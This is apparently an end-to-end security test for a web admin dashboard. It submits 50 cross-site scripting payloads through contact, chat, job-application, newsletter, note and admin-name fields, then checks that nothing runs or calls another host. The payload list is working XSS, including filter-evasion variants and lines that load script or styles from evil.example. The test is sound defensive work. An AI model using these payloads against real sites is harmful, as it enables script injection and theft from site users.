import { newsletter } from '#content/newsletter.ts';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect } from 'vitest';
import { anApplication, anInquiry, aPdf, multipart } from '../gateway/test/factories.ts';
import { eventually, test } from './browser.ts';
import { ADMIN, startBuiltGateway, type BuiltGateway } from './gateway.ts';
import { ask, send } from './rest.ts';
import { logIn } from './steps.ts';

let gateway: BuiltGateway;
beforeAll(async () => {
  gateway = await startBuiltGateway();
});
afterAll(() => gateway.stop());

/** What runs in a page that takes text for markup, an address for a link, or a name for code; after OWASP's and PortSwigger's lists. */
const payloads = [
  '<script>ran()</script>',
  '"><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</title><script>ran()</script>',
  '<script src=//evil.example/a.js></script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<ScRiPt>ran()</sCrIpT>',
  '<img src=x onerror=ran()>',
  '"><img src=x onerror=ran()>',
  '<img src="https://evil.example/a.png">',
  '<img src=`x`onerror=ran()>',
  '<img/src/onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y=9>x</text></a>',
  '<math><mtext><img src=x onerror=ran()>',
  '<body onload=ran()>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<marquee onstart=ran()>',
  '<a href="javascript:ran()">x</a>',
  '<form action="https://evil.example"><button autofocus>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<style>*{background:url(https://evil.example/a)}</style>',
  '<div style="background:url(https://evil.example/a)">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><img src=x onerror=ran()></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[><img src=x onerror=ran()>]]>',
  'javascript:ran()',
  'JaVaScRiPt:ran()//',
  ' javascript:ran()',
  'java\tscript:ran()',
  'data:text/html,<script>ran()</script>',
  'vbscript:ran()',
  'https://evil.example/"onmouseover="ran()',
  '\'-ran()-\'";ran();//',
  '${ran()}{{constructor.constructor("ran()")()}}#{ran()}',
  '&lt;img src=x onerror=ran()&gt;&#60;svg onload=ran()&#62;',
  '%3Cimg%20src%3Dx%20onerror%3Dran()%3E\u202e<img src=x onerror=ran()>',
];

/** Characters of an admin's name at most. */
const MAX_NAME = 200;

async function told(call: Promise<{ readonly status: number; readonly text: string }>) {
  const { status, text } = await call;
  if (status >= 300) throw new Error(`${status}: ${text}`);
}

/** Every payload in every field that takes any text, by the doors that visitors have. */
async function fill(payload: string, index: number) {
  const email = `payload-${index}@evil.example`;
  const [name, short, tag] = [payload.slice(0, 100), payload.slice(0, 40), payload.slice(0, 35)];
  const from = { sourcePage: payload, referrer: payload, utmSource: payload, utmMedium: payload, utmCampaign: payload, utmTerm: payload, utmContent: payload, locale: tag };
  await told(send('POST', `${gateway.url}/api/contact`, anInquiry({ firstName: name, lastName: name, company: payload, phone: short, message: payload, email, elapsedMs: 60_000, ...from })));
  for (const message of [`My e-mail is ${email}`, `My name is ${payload}, my company is ${payload}. I need web development for ${payload}`, payload]) {
    await told(send('POST', `${gateway.url}/api/chat`, { message, sessionId: payload.padEnd(20, '-') }));
  }
  const file = { ...aPdf(300), name: `${payload.replaceAll(/["\r\n\t]/g, '')}.pdf` };
  const fields = { position: payload, department: payload, location: payload, firstName: name, lastName: name, phone: short, currentLocation: payload, experience: payload, coverLetter: payload, portfolioUrl: payload };
  const form = multipart(anApplication({ ...fields, email, expectedSalary: payload, noticePeriod: payload }), file);
  await told(ask('POST', `${gateway.url}/api/job-applications`, { body: new Uint8Array(form.payload), headers: form.headers }));
  await told(send('POST', `${gateway.url}/api/newsletter`, { email, consent: newsletter.consents[0].version, sourcePage: payload }));
}

/** Asks as somebody of the staff. @throws Error when it is refused */
async function graph<Data>(token: string, query: string, variables: object = {}): Promise<Data> {
  const answer = await send('POST', `${gateway.url}/graphql`, { query, variables }, { authorization: `Bearer ${token}` });
  const { data, errors } = answer.json<{ data: Data; errors?: object[] }>();
  if (answer.status !== 200 || errors) throw new Error(`${answer.status}: ${answer.text}`);
  return data;
}

async function tokenOf(email: string, password: string): Promise<string> {
  return (await send('POST', `${gateway.url}/api/admin/login`, { email, password })).json<{ token: string }>().token;
}

async function note(payload: string, token: string) {
  const { inquiries } = await graph<{ inquiries: { items: [{ id: string }] } }>(token, '{ inquiries(first: 1) { items { id } } }');
  await graph(token, 'mutation ($id: ID!, $text: String!) { addDeskNote(kind: INQUIRY, id: $id, text: $text) { id } }', { id: inquiries.items[0].id, text: payload });
}

/** The payloads as names of admins, several in each: their passwords take the gateway longer than anything else here. */
function namesOfAll(): string[] {
  const names: string[] = [];
  for (const payload of payloads) {
    const longer = `${names.at(-1) ?? ''} ${payload}`.trim();
    if (names.length > 0 && longer.length <= MAX_NAME) names[names.length - 1] = longer;
    else names.push(payload);
  }
  return names;
}

/** Admins with such names, one of whom has an inquiry and a note on it; all of it is in the record of what was done as well. */
async function staff(token: string) {
  const password = 'a-long-enough-password';
  const names = namesOfAll();
  for (const [index, name] of names.entries()) {
    await graph(token, 'mutation ($input: NewAdminInput!) { addAdmin(input: $input) { id } }', { input: { email: `staff-${index}@longitude.example`, name, password, current: ADMIN.password } });
  }
  await note('by a colleague', await tokenOf('staff-0@longitude.example', password));
  const { inquiries, admins } = await graph<{ inquiries: { items: [{ id: string }] }; admins: { id: string; name: string }[] }>(token, '{ inquiries(first: 1) { items { id } } admins { id name } }');
  const owner = admins.find(({ name }) => name === names[0])!.id;
  await graph(token, 'mutation ($id: ID!, $change: InquiryChange!) { changeInquiry(id: $id, change: $change) { id } }', { id: inquiries.items[0].id, change: { assignee: owner } });
  return names;
}

/** Elements that nothing of the desk makes, and what else could run or lead away. */
const foreign = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('main *')]
      .filter((element) => element.matches('script, img, iframe, object, embed, video, audio, marquee, base, link, meta, style, math, template, noscript, animate, [srcdoc]') || [...element.attributes].some(({ name, value }) => name.startsWith('on') || (/^(href|src|action|formaction|data|xlink:href)$/.test(name) && /^\s*(java\s*script|vbscript|data):/i.test(value))))
      .map(({ outerHTML }) => outerHTML.slice(0, 200)),
  );

test('what strangers wrote is text on the desk: nothing of it runs, and nothing calls out', async ({ newVisitor }) => {
  expect(new Set(payloads).size).toBe(50);
  // In order, so that a record's place in its list tells its payload.
  for (const [index, payload] of payloads.entries()) await fill(payload, index);
  const token = await tokenOf(ADMIN.email, ADMIN.password);
  for (const payload of payloads) await note(payload, token);
  const names = await staff(token);

  const { page, context } = await newVisitor();
  const happened: string[] = [];
  page.on('dialog', (dialog) => void (happened.push(`dialog: ${dialog.message()}`), dialog.dismiss()));
  context.on('request', (request) => void (new URL(request.url()).origin === new URL(gateway.url).origin || request.url().startsWith('blob:') || happened.push(`request: ${request.url()}`)));
  await page.exposeFunction('ran', () => void happened.push('ran'));
  await logIn(page, gateway.url);

  for (const [tab, list] of [
    ['', 'Inquiries'],
    ['?tab=chat-leads', 'Chat leads'],
    ['?tab=job-applications', 'Job applications'],
    ['?tab=subscribers', 'Subscribers'],
  ] as const) {
    if (tab) await page.goto(`${gateway.url}/admin${tab}`);
    const records = page.getByRole('list', { name: list, exact: true }).locator('[data-record]');
    await eventually(() => records.count()).toBe(50);
    // Through all of them, the newest first.
    await page.getByRole('heading', { name: 'Dashboard', exact: true }).focus();
    for (let step = 1; step < payloads.length; step++) await page.keyboard.press('j');
    await eventually(() => records.last().getAttribute('aria-expanded')).toBe('true');
    // The first payload, as it was written.
    if (tab !== '?tab=subscribers') await page.getByRole('region').getByText('<script>ran()</script>').filter({ visible: true }).first().waitFor();
    expect([list, await foreign(page)]).toEqual([list, []]);
  }

  // The notes, and a search and a filter that the address brings.
  await page.goto(`${gateway.url}/admin?q=${encodeURIComponent('payload-49')}&service=${encodeURIComponent('"><img src=x onerror=ran()>')}`);
  await page.getByRole('region').getByText('javascript:ran()', { exact: true }).first().waitFor();
  await page.getByRole('region').getByText(/^<script>ran\(\)<\/script>.*, \w+day /).first().waitFor();
  expect(await foreign(page)).toEqual([]);
  await page.goto(`${gateway.url}/admin?tab=staff`);
  for (const list of ['Admins', 'What was done']) await eventually(() => page.getByRole('list', { name: list }).getByRole('listitem').count()).toBeGreaterThanOrEqual(names.length);
  expect(await foreign(page)).toEqual([]);
  await page.goto(`${gateway.url}/admin?tab=figures&q=${encodeURIComponent('"><img src=x onerror=ran()>')}`);
  await page.getByRole('img', { name: 'By page' }).waitFor();
  expect(await foreign(page)).toEqual([]);
  expect(happened).toEqual([]);
});
